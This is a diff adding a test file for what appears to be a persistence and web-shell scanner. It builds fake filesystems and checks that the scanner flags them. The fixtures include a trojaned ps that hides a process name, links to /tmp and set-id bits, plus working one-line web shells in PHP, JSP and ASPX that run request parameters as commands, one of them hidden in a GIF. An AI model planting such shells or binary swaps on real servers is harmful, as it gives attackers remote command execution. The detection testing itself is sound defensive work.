@@ -1,0 +1,186 @@
+/**
+ * Binaries replaced in place (dpkg: scripts against md5sums, set-id against the stock list and statoverride,
+ * links into temporary places; rpm: sizes and modes from a real rpm database) and web shells (PHP, JSP, ASPX,
+ * .htaccess, configured roots, binary junk, package-installed files quiet, bounded walk).
+ */
+import assert from "node:assert/strict";
+import { persistence } from "../../src/scanners/persistence/index.ts";
+import { makeTree, runOne, sh } from "../helpers.ts";
+import { dpkgOwns, md5, summary, withAccounts } from "./persistence_fixtures.ts";
+
+const isRoot = Deno.uid() === 0;
+const LSB = "#!/usr/bin/python3 -Es\nimport lsb_release\nlsb_release.main()\n";
+const FAKE_PS = '#!/bin/sh\n/usr/bin/.ps.real "$@" | grep -v -e kw0rker\n';
+
+Deno.test("persistence binaries (dpkg): a packaged program that is now another script, set-id added, a link to /tmp", async () => {
+  using root = makeTree(withAccounts({
+    "usr/bin/ps": { content: FAKE_PS, mode: 0o755 },
+    "usr/bin/lsb_release": { content: LSB, mode: 0o755 },
+    "usr/bin/find": { content: "\u007fELF not really", mode: 0o4755 },
+    "usr/bin/passwd": { content: "\u007fELF not really", mode: 0o4755 },
+    "usr/bin/ksu2": { content: "\u007fELF not really", mode: 0o4755 },
+    "usr/bin/top": { symlink: "/tmp/.t/top" },
+    "usr/bin/vi": { symlink: "/etc/alternatives/vi" },
+    "etc/alternatives/vi": { symlink: "/usr/bin/vim.basic" },
+    "usr/bin/vim.basic": { content: "\u007fELF", mode: 0o755 },
+    "usr/bin/local-tool": { content: "#!/bin/sh\necho mine\n", mode: 0o755 },
+    "var/lib/dpkg/statoverride": "root root 4755 /usr/bin/ksu2\n",
+    ...dpkgOwns("procps", ["/usr/bin/ps", "/usr/bin/top"], {
+      "/usr/bin/ps": "0123456789abcdef0123456789abcdef",
+    }),
+    ...dpkgOwns("lsb-release", ["/usr/bin/lsb_release"], { "/usr/bin/lsb_release": await md5(LSB) }),
+    ...dpkgOwns("findutils", ["/usr/bin/find"]),
+    ...dpkgOwns("passwd", ["/usr/bin/passwd"]),
+    ...dpkgOwns("krb5-user", ["/usr/bin/ksu2"]),
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok", r.reason);
+  assert.deepEqual(summary(r.findings), [
+    "high persistence.binary.replaced /usr/bin/ps",
+    "high persistence.binary.replaced /usr/bin/top",
+    "medium persistence.binary.setid_added /usr/bin/find",
+  ]);
+  const ps = r.findings.find((f) => f.metadata.path === "/usr/bin/ps")!;
+  assert.equal(ps.metadata.package, "procps");
+  assert.match(ps.description, /is a script whose md5 differs/);
+  assert.match(
+    r.findings.find((f) => f.metadata.path === "/usr/bin/top")!.description,
+    /link to \/tmp\/\.t\/top/,
+  );
+  assert.deepEqual(r.warnings, []);
+});
+
+Deno.test("persistence binaries: without a package database the program files are not judged, and that is said", async () => {
+  using root = makeTree(withAccounts({ "usr/bin/ps": { content: FAKE_PS, mode: 0o755 } }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(r.findings, []);
+  assert.deepEqual(r.warnings.map((w) => w.code), ["no_package_db"]);
+  assert.match(r.warnings[0].detail!, /1 file\(s\) not checked \(e\.g\. \/usr\/bin\/ps\)/);
+});
+
+function rpmMissing(): string | undefined {
+  for (const p of ["/usr/bin/rpm", "/usr/bin/rpmbuild"]) {
+    try {
+      Deno.statSync(p);
+    } catch {
+      return `${p} is not installed (Debian package rpm)`;
+    }
+  }
+  return isRoot ? undefined : "rpm --root needs root";
+}
+const RPM_WHY = rpmMissing();
+if (RPM_WHY !== undefined) console.log(`persistence_binaries_web_test: rpm case ignored: ${RPM_WHY}`);
+
+const SPEC = `Name: coreutils-fixture
+Version: 1
+Release: 1
+Summary: programs whose recorded sizes and modes the persistence scanner compares
+License: none
+BuildArch: noarch
+%description
+test fixture
+%install
+mkdir -p %{buildroot}/usr/bin
+printf 'ELF program of 28 bytes.....' > %{buildroot}/usr/bin/ls
+printf '#!/bin/sh\\necho hello\\n' > %{buildroot}/usr/bin/hello
+printf 'ELF vim' > %{buildroot}/usr/bin/vim
+printf 'ELF mount' > %{buildroot}/usr/bin/mount
+printf 'ELF cat' > %{buildroot}/usr/bin/cat
+%files
+%attr(0755,root,root) /usr/bin/ls
+%attr(0755,root,root) /usr/bin/hello
+%attr(0755,root,root) /usr/bin/vim
+%attr(4755,root,root) /usr/bin/mount
+%attr(0755,root,root) /usr/bin/cat
+`;
+
+Deno.test({
+  name: "persistence binaries (rpm): sizes and modes the rpm database records decide",
+  ignore: RPM_WHY !== undefined,
+  fn: async () => {
+    using work = makeTree({ "SPECS/fixture.spec": SPEC });
+    using root = makeTree(withAccounts({}));
+    sh("/usr/bin/rpmbuild", "--define", `_topdir ${work.path}`, "-bb", `${work.path}/SPECS/fixture.spec`);
+    sh(
+      "/usr/bin/rpm",
+      "--root",
+      root.path,
+      "--dbpath",
+      "/var/lib/rpm",
+      "--nodeps",
+      "--noscripts",
+      "-i",
+      `${work.path}/RPMS/noarch/coreutils-fixture-1-1.noarch.rpm`,
+    );
+    Deno.writeTextFileSync(`${root.path}/usr/bin/ls`, "a trojaned ls that is longer than the original");
+    Deno.writeTextFileSync(`${root.path}/usr/bin/hello`, "#!/bin/sh\necho HELLO WORLD\n");
+    Deno.chmodSync(`${root.path}/usr/bin/vim`, 0o4755);
+    const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+    assert.equal(r.status, "ok", r.reason);
+    assert.deepEqual(summary(r.findings), [
+      "high persistence.binary.replaced /usr/bin/hello",
+      "high persistence.binary.replaced /usr/bin/ls",
+      "high persistence.binary.setid_added /usr/bin/vim",
+    ]);
+    assert.match(
+      r.findings.find((f) => f.metadata.path === "/usr/bin/ls")!.description,
+      /is 46 bytes; the package recorded 28/,
+    );
+    assert.deepEqual(r.warnings, []);
+  },
+});
+
+const GIF = new Uint8Array([
+  ...new TextEncoder().encode("GIF89a"),
+  0,
+  1,
+  0xff,
+  0xfe,
+  0x80,
+  ...new TextEncoder().encode("<?php passthru($_REQUEST['x']); ?>"),
+  0,
+  0xc3,
+]);
+
+Deno.test("persistence web shells: request input run as commands, obfuscated eval and handler overrides fire", async () => {
+  using root = makeTree(withAccounts({
+    "var/www/html/index.php":
+      "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
+    "var/www/html/wp-content/uploads/2024/05/cache.php": "<?php\n\n@system($_GET['c']);\n",
+    "var/www/html/wp-content/uploads/2024/05/f.php": "<?php $f = $_POST['f']; $f($_POST['a']);",
+    "var/www/html/lib/obf.php": "<?php eval(gzinflate(base64_decode('S0lNzMlXSCxLVUjLzEktUgQA')));",
+    "var/www/html/up/avatar.php": { content: GIF },
+    "var/www/html/.htaccess": "RewriteEngine On\nAddType application/x-httpd-php .jpg .png\n",
+    "srv/http/shell.jsp": '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
+    "etc/nginx/sites-enabled/app": "server {\n  listen 80;\n  root /opt/app/public;\n  location / { }\n}\n",
+    "opt/app/public/x.aspx": '<%@ Page Language="C#" %><% Process.Start("cmd.exe", "/c " + Request["c"]); %>',
+    "var/www/html/phpmyadmin/lib.php": "<?php exec($_GET['q']);",
+    ...dpkgOwns("phpmyadmin", ["/var/www/html/phpmyadmin/lib.php"]),
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.equal(r.status, "ok", r.reason);
+  assert.deepEqual(summary(r.findings), [
+    "critical persistence.webshell.exec_request /opt/app/public/x.aspx",
+    "critical persistence.webshell.exec_request /srv/http/shell.jsp",
+    "critical persistence.webshell.exec_request /var/www/html/up/avatar.php",
+    "critical persistence.webshell.exec_request /var/www/html/wp-content/uploads/2024/05/cache.php",
+    "critical persistence.webshell.exec_request /var/www/html/wp-content/uploads/2024/05/f.php",
+    "high persistence.webshell.handler_override /var/www/html/.htaccess",
+    "high persistence.webshell.obfuscated_eval /var/www/html/lib/obf.php",
+  ]);
+  const cache = r.findings.find((f) => f.metadata.path?.toString().endsWith("cache.php"))!;
+  assert.deepEqual([cache.metadata.line, cache.metadata.patterns], [3, ["php_sink_request"]]);
+  assert.deepEqual(r.warnings, []);
+});
+
+Deno.test("persistence web shells: the walk is bounded and says where it stopped", async () => {
+  const deep = Array.from({ length: 14 }, (_, i) => `d${i}`).join("/");
+  using root = makeTree(withAccounts({
+    [`var/www/${deep}/x.php`]: "<?php system($_GET['c']);",
+    "var/www/html/ok.php": "<?php echo 'hello';",
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(r.findings, []);
+  assert.deepEqual(r.warnings.map((w) => w.code), ["truncated"]);
+  assert.match(r.warnings[0].detail!, /deeper than 12/);
+});
